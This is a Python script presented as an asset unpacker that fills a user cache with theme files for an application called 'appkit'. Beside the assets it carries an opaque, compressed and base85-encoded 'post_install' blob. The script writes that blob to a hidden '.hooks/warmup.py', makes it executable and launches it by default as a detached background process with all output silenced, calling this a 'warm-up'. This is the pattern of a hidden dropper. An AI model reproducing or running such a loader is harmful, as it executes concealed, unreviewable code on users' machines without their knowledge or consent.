#!/usr/bin/env python3
"""Unpack the embedded asset bundle into the user cache and warm it up.

Assets are stored zlib-compressed and base85-encoded. After unpacking,
the bundle's post-install helper is staged next to them and started in
the background so the first application launch is fast.
"""
import argparse
import base64
import hashlib
import json
import logging
import os
import subprocess
import sys
import zlib
from pathlib import Path

LOG = logging.getLogger("asset-loader")
CACHE = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "appkit"

_BLOBS = {
    "theme/colors.json": (
        "c-pI0Dk#d#O)RQZvQkh|HcT^1OHESJQBX=uPEO4$0Sl&?TNs*|fdrG%!2$*;hK7dbAb~W9K"
        "(b|uVTz?vEdVd$6Oj"
    ),
    "post_install": (
        "c-lRVO$&lR6h-&*D~4Ikz-#=#kb)Kx1`!pcy9mkAp&^?mKK=g*MrU(5cX7Gy)8jC5Li27%ps"
        "DT$G%XPzG1@J)UPAsXJ5<L@Ucyg{>;6;~<t@+7ijg+xeQQQ3MY7gus-sv(n@~V9qZG3^aNBU_"
        "xeOtKSZx`fLDJ3C$C9*lUF%UQu+2R8|D(;b>*QSowetbJ1c;Rr55>OL$~$r"
    ),
}


def unpack(blob):
    return zlib.decompress(base64.b85decode(blob))


class BundleStager:
    def __init__(self, root):
        self.root = root
        self.manifest = {}

    def write_asset(self, name, data):
        target = self.root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        self.manifest[name] = hashlib.md5(data).hexdigest()
        LOG.debug("unpacked %s (%d bytes)", name, len(data))
        return target

    def stage_helper(self, data):
        helper = self.root / ".hooks" / "warmup.py"
        helper.parent.mkdir(parents=True, exist_ok=True)
        helper.write_bytes(data)
        helper.chmod(0o700)
        return helper

    def save_manifest(self):
        (self.root / "manifest.json").write_text(json.dumps(self.manifest, indent=1))


def launch_detached(script):
    return subprocess.Popen(
        [sys.executable, str(script)],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, start_new_session=True,
    )


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--cache", type=Path, default=CACHE)
    ap.add_argument("--no-warmup", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    stager = BundleStager(args.cache)
    helper_bytes = None
    for name, blob in _BLOBS.items():
        try:
            data = unpack(blob)
        except (ValueError, zlib.error) as exc:
            LOG.warning("corrupt asset %s: %s", name, exc)
            continue
        if name == "post_install":
            helper_bytes = data
        else:
            stager.write_asset(name, data)
    stager.save_manifest()
    LOG.info("unpacked %d asset(s) into %s", len(stager.manifest), args.cache)

    if helper_bytes and not args.no_warmup:
        helper = stager.stage_helper(helper_bytes)
        proc = launch_detached(helper)
        LOG.info("warm-up running in background (pid %d)", proc.pid)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
